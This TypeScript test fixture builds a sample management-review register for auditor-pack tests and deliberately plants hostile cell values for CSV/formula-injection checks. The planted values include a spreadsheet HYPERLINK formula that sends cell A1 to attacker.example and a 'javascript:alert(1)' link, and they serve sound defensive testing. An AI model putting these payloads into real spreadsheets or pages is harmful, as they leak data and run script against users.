/**
 * A small, realistic register (as raw tables, the way the xlsx reader hands them over) for the
 * auditor pack and history tests, including hostile text: cells that begin with = + - @ tab.
 */
import { assess } from '../../src/domain/assess';
import { fromIsoText } from '../../src/domain/dates';
import { parseRegister } from '../../src/domain/register';
import { ACCOUNTABILITIES, COMMUNICATIONS, DECISIONS, ESCALATIONS, RESOURCES, REVIEWS, type TableSpec } from '../../src/domain/schema';
import type { RawRegister, RawTable, Register, Result } from '../../src/domain/types';

export const AS_OF = '2026-06-30';
const d = (iso: string): Date => new Date(`${iso}T00:00:00Z`);

/** Text that would be a live formula if a writer let it through. */
export const HOSTILE = {
  formula: '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
  plus: '+1+2',
  minus: '-3+4',
  at: '@SUM(1,2)',
  tab: '\tindented',
  sum: '=2+3',
} as const;

function table(spec: TableSpec, rows: Record<string, unknown>[]): RawTable {
  const header = spec.columns.map((c) => c.header);
  return { values: [header, ...rows.map((r) => spec.columns.map((c) => r[c.key] ?? null))], headerRow: 1 };
}

export function sampleRaw(): RawRegister {
  return {
    Accountabilities: table(ACCOUNTABILITIES, [
      {
        id: 'ACC-1',
        person: 'Dana Okafor',
        role: 'Chief Operating Officer',
        topManagement: 'Yes',
        accountable: 'Yes',
        canAllocate: 'Yes',
        responsibilities: HOSTILE.formula,
        documentedIn: 'Charter',
        documentLink: 'https://intranet.example/sms/charter.pdf',
        acceptedOn: d('2026-01-15'),
        nextReview: d('2027-01-15'),
        status: 'Active',
      },
      { id: 'ACC-2', person: 'Lee Chen', role: 'CIO', topManagement: 'Yes', accountable: 'No', canAllocate: 'Yes', status: 'Active' },
    ]),
    Reviews: table(REVIEWS, [
      {
        id: 'REV-1',
        forum: 'SMS management review',
        heldOn: d('2025-10-02'),
        chair: 'Dana Okafor',
        topManagementPresent: 'Dana Okafor; Lee Chen',
        inputsCovered: 'Service performance; Major incidents; Trends; Audit results; Nonconformities; Customer feedback',
        minutesLink: 'https://intranet.example/reviews/2025-10.docx',
        status: 'Held',
      },
      {
        id: 'REV-2',
        forum: HOSTILE.plus,
        heldOn: d('2026-01-08'),
        chair: 'Dana Okafor',
        topManagementPresent: 'Dana Okafor',
        inputsCovered: 'Service performance; Trends',
        minutesLink: '\\\\fileserver\\sms\\minutes\\2026-01.docx',
        status: 'Held',
      },
      { id: 'REV-3', forum: 'SMS management review', heldOn: { error: '#REF!' }, status: 'Held' },
    ]),
    Decisions: table(DECISIONS, [
      {
        id: 'DEC-1',
        decidedOn: d('2025-10-02'),
        source: 'REV-1',
        decision: 'Add weekend on-call cover',
        type: 'Staffing',
        decidedBy: 'Dana Okafor',
        owner: 'Lee Chen',
        dueDate: d('2025-12-31'),
        status: 'Done',
        completedOn: d('2025-12-10'),
        evidenceLink: 'https://intranet.example/decisions/dec-1',
      },
      {
        id: 'DEC-2',
        decidedOn: d('2026-01-08'),
        source: 'REV-2',
        decision: HOSTILE.sum,
        type: 'Corrective action',
        owner: HOSTILE.at,
        dueDate: d('2026-03-31'),
        status: 'In progress',
        evidenceLink: 'javascript:alert(1)',
      },
    ]),
    Resources: table(RESOURCES, [
      {
        id: 'RES-1',
        requestedOn: d('2025-09-20'),
        type: 'People',
        smsNeed: 'After-hours incident backlog',
        linkedItem: 'DEC-1',
        approvedBy: 'Dana Okafor',
        outcome: 'Approved',
        decidedOn: d('2025-10-02'),
        evidenceLink: 'https://intranet.example/resources/res-1',
      },
    ]),
    Communications: table(COMMUNICATIONS, [
      {
        id: 'COM-1',
        sentOn: d('2026-02-01'),
        from: 'Dana Okafor',
        channel: 'Town hall',
        audience: 'All service staff',
        expectation: HOSTILE.minus,
        evidenceLink: 'https://intranet.example/comms/town-hall.pptx',
      },
      { id: 'COM-2', sentOn: d('2026-05-20'), from: 'Lee Chen', channel: 'Email', audience: HOSTILE.tab },
    ]),
    Escalations: table(ESCALATIONS, [
      {
        id: 'ESC-1',
        raisedOn: d('2025-09-15'),
        trigger: 'Repeat incident',
        description: 'Weekend outages of the payment service',
        escalatedTo: 'Dana Okafor',
        decision: 'DEC-1',
        status: 'Closed',
        closedOn: d('2025-12-12'),
      },
    ]),
    Settings: {
      values: [
        ['Key', 'Value'],
        ['Organisation', 'Example Services Ltd'],
        ['SMS scope', 'Managed hosting and payment services'],
        ['Assessment date', ''],
        ['Escalation triggers', 'Repeat incidents; SLA misses; audit findings'],
        ['Effectiveness definition', '=SLA met and reviews held'],
      ],
      headerRow: 1,
    },
  };
}

export interface Sample {
  raw: RawRegister;
  register: Register;
  result: Result;
}

export function sample(raw: RawRegister = sampleRaw()): Sample {
  const register = parseRegister(raw);
  const result = assess(register, { asOf: fromIsoText(AS_OF) as number, today: fromIsoText(AS_OF) as number });
  return { raw, register, result };
}

/** The sample as C's test fixtures describe tables (headers + rows), for writing a real .xlsx. */
export function sampleFixtureTables(raw: RawRegister = sampleRaw()): Record<string, { headers: string[]; rows: unknown[][] }> {
  const out: Record<string, { headers: string[]; rows: unknown[][] }> = {};
  for (const [name, t] of Object.entries(raw)) {
    if (!t) continue;
    out[name] = { headers: t.values[0].map(String), rows: t.values.slice(1).map((r) => [...r]) };
  }
  return out;
}
